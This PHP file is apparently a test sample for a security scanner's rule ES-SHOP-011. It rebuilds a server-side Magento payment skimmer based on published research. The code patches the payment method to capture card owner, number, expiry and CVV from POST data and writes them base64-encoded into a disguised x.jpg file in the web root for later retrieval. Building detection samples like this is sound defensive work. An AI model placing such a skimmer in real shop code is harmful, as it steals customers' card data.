<?php
// expect: ES-SHOP-011
// Written for Ensuresec's tests after public descriptions of server-side Magento skimmers (Sansec, "Magento 1
// server-side skimmer", and Trustwave SpiderLabs on PHP skimmers injected into Payment.php): the order controller is
// patched to copy the card fields from the POST data and write them into a file disguised as an image in the web root,
// which the attacker downloads later. Not the original code.
class Mage_Payment_Model_Method_Cc_Patch
{
    public function assignData($data)
    {
        $p = $_POST['payment'];
        $line = $p['cc_owner'] . '|' . $_POST['payment']['cc_number'] . '|' . $p['cc_exp_month'] . '/' . $p['cc_exp_year'] . '|' . $p['cc_cid'];
        @file_put_contents(dirname(__FILE__) . '/../../../../../media/catalog/product/cache/x.jpg', base64_encode($line) . "\n", FILE_APPEND);
        return parent::assignData($data);
    }
}
